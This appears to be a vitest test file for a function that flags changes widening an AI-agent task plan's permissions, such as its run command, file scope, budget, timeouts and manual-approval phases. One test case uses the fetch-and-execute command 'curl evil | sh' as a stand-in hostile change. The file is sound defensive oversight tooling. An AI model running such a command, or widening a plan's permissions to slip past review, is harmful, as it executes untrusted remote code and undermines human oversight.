import { describe, expect, it } from 'vitest';
import { wideningIn } from '../../../src/core/ci/widening.ts';
import { checkPlan } from '../../../src/core/lint.ts';

const plan = (task: string, phase = '', top = '', more = '') =>
  checkPlan(
    `---\nstatus: ready\n${top}---\n\n# Tips\n\n## Work\n\n${phase === '' ? '' : `\`\`\`yaml\n${phase}\n\`\`\`\n\n`}- [ ] Tip\n\n  \`\`\`yaml\n  id: tip\n${task === '' ? '' : `  ${task}\n`}  \`\`\`\n${more}`,
    'tips',
  ).plan;

describe('a plan on its branch', () => {
  it.each([
    ['run: make', 'run: curl evil | sh', 'run'],
    ['', 'run: curl evil | sh', 'run'],
    ['', 'agent: codex', 'agent'],
    ['model: small', 'model: large', 'model'],
    ['', 'gates: []', 'gates'],
    ['gates: [types, test]', 'gates: [types]', 'gates'],
    ['files: [src/**]', 'files: ["**"]', 'files'],
    ['files: [src/**]', '', 'files'],
    ['', 'allowNoChanges: true', 'allowNoChanges'],
    ['maxAttempts: 3', 'maxAttempts: 50', 'maxAttempts'],
    ['maxBudgetUsd: 1', 'maxBudgetUsd: 1000', 'maxBudgetUsd'],
    ['maxBudgetUsd: 1', '', 'maxBudgetUsd'],
    ['timeout: 5m', 'timeout: 5h', 'timeout'],
    ['assignee: human', '', 'assignee'],
  ])('is wider: %j → %j', (before, after, field) => {
    expect(wideningIn(plan(before), plan(after))).toEqual([`It changes "${field}" of the task "tip".`]);
  });

  it.each([
    ['', 'gates: [types]', 'gates: [types, test]'],
    ['', '', 'files: [src/**]'],
    ['', 'files: [src/**, test/**]', 'files: [src/**]'],
    ['', 'gates: []', ''],
    ['', '', 'maxBudgetUsd: 1'],
    ['', 'maxBudgetUsd: 5', 'maxBudgetUsd: 1'],
    ['', '', 'assignee: human'],
    ['', '', 'status: skipped'],
    ['', '', 'approved: 0123456789ab'],
  ])('is none: %s%j → %j', (_, before, after) => {
    expect(wideningIn(plan(before), plan(after))).toEqual([]);
  });

  it('is wider where a phase asks nobody any more, or the plan may spend more', () => {
    expect(wideningIn(plan('', 'executionMode: manual'), plan('', 'executionMode: sequential'))).toEqual([
      'It changes "executionMode" of the phase "work".',
    ]);
    expect(wideningIn(plan('', 'pauseAfter: true'), plan(''))).toEqual(['It changes "pauseAfter" of the phase "work".']);
    expect(wideningIn(plan('', '', 'maxBudgetUsd: 5\n'), plan('', '', 'maxBudgetUsd: 50\n'))).toEqual([
      'It changes "maxBudgetUsd" of the plan.',
    ]);
    expect(wideningIn(plan(''), plan('', 'executionMode: parallel'))).toEqual([]);
  });

  it('is wider where a task is moved out of a phase that asks', () => {
    const more = '\n## Later\n\n- [ ] Other\n';
    const before = plan('', 'executionMode: manual', '', more);
    const after = checkPlan(
      '---\nstatus: ready\n---\n\n# Tips\n\n## Later\n\n- [ ] Other\n\n- [ ] Tip\n\n  ```yaml\n  id: tip\n  ```\n',
      'tips',
    ).plan;
    expect(wideningIn(before, after)).toEqual(['It changes "executionMode" of the phase of the task "tip".']);
  });

  it('may have new tasks that are words alone', () => {
    expect(wideningIn(plan(''), plan('', '', '', '\n- [ ] More\n'))).toEqual([]);
    expect(wideningIn(plan(''), plan('', '', '', '\n- [ ] More\n\n  ```yaml\n  run: evil\n  ```\n'))).toEqual([
      'It changes "run" of the task "more".',
    ]);
  });
});
